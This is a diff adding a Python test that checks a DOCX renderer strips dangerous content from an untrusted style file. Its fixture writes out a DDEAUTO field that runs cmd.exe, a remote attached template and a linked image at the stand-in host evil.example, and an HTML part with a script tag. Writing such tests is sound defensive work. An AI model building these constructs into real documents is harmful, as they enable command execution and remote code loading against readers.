@@ -157,6 +157,43 @@ def test_house_style_headers_keep_their_content_below_the_stamp(tmp_path: Path) 
     assert [p.text for p in s.first_page_header.paragraphs] == [STAMP, "Riverside NHS: cover header"]
 
 
+def test_a_house_style_brings_its_styles_and_header_text_but_no_fields_links_or_parts(tmp_path: Path) -> None:
+    """A style file is untrusted: an attached remote template, a DDEAUTO field in its header, a
+    linked picture on a network share and an altChunk part must not reach the output."""
+    from docx import Document as new_docx
+    from docx.opc.constants import RELATIONSHIP_TYPE as RT
+    from docx.opc.packuri import PackURI
+    from docx.opc.part import Part
+    from docx.oxml import parse_xml
+    from docx.oxml.ns import nsdecls
+
+    ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    style = tmp_path / "evil.docx"
+    house = new_docx()
+    house.styles["Normal"].font.name = "Verdana"
+    header = house.sections[0].header.paragraphs[0]
+    header.text = "Riverside NHS"
+    header._p.append(parse_xml(f'<w:fldSimple {nsdecls("w")} w:instr="DDEAUTO cmd.exe /c calc"><w:r><w:t>x</w:t>'
+                               "</w:r></w:fldSimple>"))
+    settings = house.part.part_related_by(RT.SETTINGS)
+    rid = settings.relate_to("http://evil.example/template.dotm", ATTACHED_TEMPLATE, is_external=True)
+    settings.element.append(parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{rid}"/>'))
+    house.sections[0].header.part.relate_to("file://evil.example/share/logo.png", RT.IMAGE, is_external=True)
+    chunk = Part(PackURI("/word/evil.html"), "text/html", b"<script>alert(1)</script>", house.part.package)
+    house.part.relate_to(chunk, RT.A_F_CHUNK)
+    house.save(str(style))
+    path = tmp_path / "r.docx"
+    DocxRenderer().render(_document("publication"), path, RenderSettings(style=style))
+    with zipfile.ZipFile(path) as z:
+        package = b"".join(z.read(name) for name in z.namelist())
+        assert not [name for name in z.namelist() if name.endswith(".html")]
+    for bad in (b"evil.example", b"DDEAUTO", b"attachedTemplate", b"TargetMode=\"External\"", b"<script"):
+        assert bad not in package, bad
+    d = read_docx(str(path))
+    assert d.styles["Normal"].font.name == "Verdana"  # the house style's styles are used
+    assert d.sections[0].header.paragraphs[0].text == "Riverside NHS"  # its header text, as plain text
+
+
 def test_publications_carry_no_stamp(tmp_path: Path) -> None:
     doc = _document("publication")
     XlsxRenderer().render(doc, tmp_path / "r.xlsx", RenderSettings())
